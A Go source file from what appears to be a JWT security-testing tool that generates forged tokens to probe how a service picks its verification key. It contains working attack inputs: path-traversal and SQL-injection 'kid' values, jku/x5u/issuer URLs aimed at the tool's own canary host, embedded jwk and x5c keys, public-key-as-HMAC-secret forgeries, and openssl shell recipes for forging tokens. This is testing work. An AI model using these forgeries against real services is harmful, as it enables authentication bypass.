package security

import (
	"encoding/base64"
	"encoding/json"
	"fmt"
	"strings"

	"listo/internal/engine/jwt"
	labwire "listo/internal/lab/wire"
)

// brought is the key of a token that brings its own; it opens nothing else.
const brought = "listo-brings-its-own-key-along"

// burglary makes tokens that tell the service by which key to verify them (RFC 7515,
// section 4.1: jwk, jku, x5u, x5c and kid are the sender's words; RFC 8725, sections
// 3.1 and 3.10).
type burglary struct {
	claims json.RawMessage
	pair   jwt.Pair
	canary *labwire.Canary
	all    []forgery
	err    error
}

// bringingKinds are the tokens that any service is tried with.
func bringingKinds() []string {
	return []string{"kid_path", "kid_device", "kid_sql", "kid_sql_empty", "kid_url", "jwk_secret", "jwk_pair", "jku", "x5u", "x5c", "issuer_url"}
}

// leads tells that a token names a place to fetch a key from.
func leads(kind string) bool {
	return kind == "kid_url" || kind == "jku" || kind == "x5u" || kind == "issuer_url"
}

// bringing makes the tokens of bringingKinds.
func (t *burglary) bringing() {
	at := "http://" + t.canary.Address()
	t.hmac("kid_path", member("kid", "../../../../../../../../dev/null"), "")
	t.hmac("kid_device", member("kid", "/dev/null"), "")
	t.hmac("kid_sql", member("kid", "listo' UNION SELECT '"+brought+"' -- "), brought)
	t.hmac("kid_sql_empty", member("kid", "listo' AND 1=0 UNION SELECT '' -- "), "")
	t.hmac("kid_url", member("kid", at+"/key"), brought)
	t.hmac("jwk_secret", `"jwk":{"kty":"oct","alg":"HS256","k":"`+base64.RawURLEncoding.EncodeToString([]byte(brought))+`"}`, brought)
	t.rsa("jwk_pair", `"kid":"listo","jwk":`+t.pair.JWK(), t.claims)
	t.rsa("jku", `"kid":"listo",`+member("jku", at+"/jwks"), t.claims)
	t.rsa("x5u", `"kid":"listo",`+member("x5u", at+"/certificate.pem"), t.claims)
	certificate, err := t.pair.Certificate()
	if err != nil {
		t.err = err
		return
	}
	t.rsa("x5c", `"kid":"listo","x5c":["`+base64.StdEncoding.EncodeToString(certificate)+`"]`, t.claims)
	claims, err := jwt.With(t.claims, map[string]any{"iss": at})
	if err != nil {
		t.err = err
		return
	}
	t.rsa("issuer_url", `"kid":"listo"`, claims)
}

// confusing makes tokens whose HMAC has the published key of the service for its
// secret: one that lets the token choose the algorithm verifies it with that (RFC
// 8725, section 2.1). It gives how many keys the service publishes.
func (t *burglary) confusing(set []byte) (public int) {
	const most = 3
	for _, key := range jwt.PublicRSA(set) {
		if public++; public > most {
			break
		}
		for _, text := range jwt.Texts(key) {
			t.all = append(t.all, forgery{kind: "public_as_secret", token: jwt.Sign(jwt.HS256, t.claims, text), note: "signed by HMAC with the published key as text"})
		}
	}
	return public
}

func member(name, value string) string {
	text, _ := json.Marshal(value) // a text always can be
	return fmt.Sprintf("%q:%s", name, text)
}

func header(alg, more string) string { return `{"alg":"` + alg + `","typ":"JWT",` + more + `}` }

// hmac adds a token signed by HMAC with a key that its own header leads to. The
// recipe makes the same one in a shell.
func (t *burglary) hmac(kind, more, key string) {
	h := header("HS256", more)
	t.all = append(t.all, forgery{kind: kind, token: jwt.Sign(h, t.claims, []byte(key)),
		recipe: signing(encoding(strings.ReplaceAll(h, "'", `'\''`))+`.$(echo "$TOKEN" | cut -d. -f2)`, "'"+key+"'")})
}

// rsa adds a token signed with listo's own pair. In the recipe stands what a reader
// puts in by himself: his own key.
func (t *burglary) rsa(kind, more string, claims json.RawMessage) {
	token, err := t.pair.Sign(header("RS256", more), claims)
	if err != nil {
		t.err = err
		return
	}
	shown := more
	for _, long := range []string{`"jwk":`, `"x5c":`} {
		if before, _, found := strings.Cut(more, long); found {
			shown = before + long + `"of listo.pem"`
		}
	}
	t.all = append(t.all, forgery{kind: kind, token: token, recipe: "openssl genrsa -out listo.pem 2048; UNSIGNED=" + encoding(header("RS256", shown)) +
		`.$(echo "$TOKEN" | cut -d. -f2); FORGED="$UNSIGNED.$(printf %s "$UNSIGNED" | openssl dgst -sha256 -sign listo.pem -binary | ` + base64URL + `)"`})
}
